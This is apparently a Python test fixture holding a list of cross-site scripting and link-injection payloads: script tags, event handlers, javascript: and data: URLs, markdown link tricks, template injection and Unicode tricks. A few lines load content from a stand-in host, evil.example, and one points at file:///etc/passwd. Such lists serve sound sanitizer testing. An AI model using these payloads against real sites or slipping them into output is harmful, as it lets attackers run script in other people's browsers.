"""Texts that try to run a script, or to look like something else, where they are shown."""

ATTACKS = """
<script>alert(1)</script>
<ScRiPt src=//evil.example></sCrIpT>
<script >alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=data:,alert(1)>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert&#40;1&#41;">
<img/src/onerror=alert(1)>
<img src=x:x onerror\t=alert(1)>
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=x><script>alert(1)</script></svg>#x">
<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="data:text/html,<script>alert(1)</script>">
<embed src="javascript:alert(1)">
<base href="javascript:alert(1)//">
<link rel=stylesheet href="//evil.example">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example';</style>
<style>*{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<p onmouseover=alert(1)>x</p>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java&#115;cript:alert(1)">x</a>
<a href="java\tscript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="//evil.example" target=_blank onclick=alert(1)>x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img src=x onerror=alert(1)></title>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<custom-element onfocus=alert(1) tabindex=1>
<<script>alert(1);//<</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
javascript:alert(1)
JAVASCRIPT:alert(1)
javascript&colon;alert(1)
java%0ascript:alert(1)
&#106;avascript:alert(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+
vbscript:msgbox(1)
file:///etc/passwd
blob:https://evil.example/x
[x](javascript:alert(1))
[x](javascript&colon;alert(1))
[x](&#x6A;avascript:alert(1))
[x](<javascript:alert(1)>)
[x](https://a.example"onmouseover="alert(1))
[x](https://a.example 'x"onmouseover="alert(1)')
![x](x"onerror="alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
<javascript:alert(1)>
[x]: javascript:alert(1)
`<script>alert(1)</script>`
@[<img src=x onerror=alert(1)>](x)
@[x](x"onmouseover=alert(1))
#ENG-1"onmouseover="alert(1)
{{constructor.constructor('alert(1)')()}}
${alert(1)}
\u202ejavascript:alert(1)
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
""".strip("\n").split("\n")
